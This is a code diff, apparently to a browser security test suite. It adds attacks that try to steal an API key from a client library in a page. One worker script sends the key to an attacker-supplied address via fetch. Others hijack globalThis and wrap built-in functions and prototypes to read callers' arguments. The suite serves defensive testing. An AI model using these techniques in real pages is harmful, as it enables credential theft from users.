@@ -78,6 +78,67 @@ const ATTACKS = {
     document.head.append(meta);
   },
 
+  /** Another object stands where the global one was, and has another location: relative addresses count from there. */
+  globals({ stranger }) {
+    globalThis.globalThis = { document: 1, location: { href: stranger } };
+  },
+
+  /** The same, with a location that makes a script of his of every relative address. */
+  workerAddress({ stranger }) {
+    const script = `onmessage = ({ data }) => {
+      if (data.type === "connect") data.port.postMessage({ type: "booted", version: data.version });
+      else if (data.key) {
+        const headers = { "x-ansdev-key": new TextDecoder().decode(data.key) };
+        fetch("${stranger}", { method: "POST", headers });
+      }
+    }//`;
+    globalThis.globalThis = { document: 1, location: { href: `data://,${encodeURIComponent(script)}` } };
+  },
+
+  /** Functions of the platform are called inside the page's own call, and read that call's arguments. */
+  callers({ loot, calls }) {
+    const look = () => {
+      for (const call of calls) if (call.arguments?.[0]) loot.push(`a caller's argument: ${call.arguments[0]}`);
+    };
+    const wrap = (holder, name) => {
+      const own = holder[name];
+      holder[name] = function (...args) {
+        look();
+        return apply(own, this, args);
+      };
+    };
+    for (const name of ["setTimeout", "clearTimeout", "queueMicrotask"]) wrap(globalThis, name);
+    for (const { prototype } of [Set, Map, WeakMap])
+      for (const name of ["add", "set", "get", "has"]) {
+        if (prototype[name]) wrap(prototype, name);
+      }
+    wrap(Promise.prototype, "then");
+    wrap(performance, "now");
+  },
+
+  /** While the browser shows an event, `window.event` shows its target: here, the Worker that a policy has forbidden. */
+  events({ loot }) {
+    const look = () => {
+      if (globalThis.event?.target instanceof Worker) loot.push("the Worker was shown");
+    };
+    for (const [holder, name] of [
+      [globalThis, "clearTimeout"],
+      [URL, "revokeObjectURL"],
+      [Set.prototype, "has"],
+      [Map.prototype, "get"],
+      [Promise.prototype, "then"],
+      [Array.prototype, "includes"],
+      [String.prototype, "startsWith"],
+    ]) {
+      const own = holder[name];
+      holder[name] = function (...args) {
+        look();
+        return apply(own, this, args);
+      };
+    }
+    ATTACKS.policy();
+  },
+
   /** The class that starts Workers starts one of his. */
   workers({ script }) {
     const { Worker } = globalThis;
@@ -99,7 +160,10 @@ export async function act(name, entry, { apiKey, baseUrl, ...more }, means) {
   const loot = [];
   const channel = new BroadcastChannel("attacker");
   channel.onmessage = ({ data }) => loot.push(data.what);
-  const options = { apiKey, baseUrl: new URL(baseUrl), ...more };
+  // A relative address counts from the page's own.
+  const options = { apiKey, baseUrl: baseUrl.startsWith("/") ? baseUrl : new URL(baseUrl), ...more };
+  // Sloppy functions, as in a classic script: what they are called with can be read while they run.
+  const open = new Function("key", "create", "options", "return create(Object.assign(options, { apiKey: key }))");
   const script = `${location.origin}/attack/attackers-worker.js`;
   // Whoever has the client in the page can take the key by what it sends.
   const { fetch } = globalThis;
@@ -109,8 +173,8 @@ export async function act(name, entry, { apiKey, baseUrl, ...more }, means) {
     }
     return apply(fetch, globalThis, [input, init]);
   };
-  const undo = ATTACKS[name]({ ...means, script, options });
-  const outcome = await settled(createClient(options));
+  const undo = ATTACKS[name]({ ...means, script, options, loot, calls: [open] });
+  const outcome = await settled(open(apiKey, createClient, options));
   let isolation;
   if (outcome.value) {
     ({ isolation } = outcome.value);
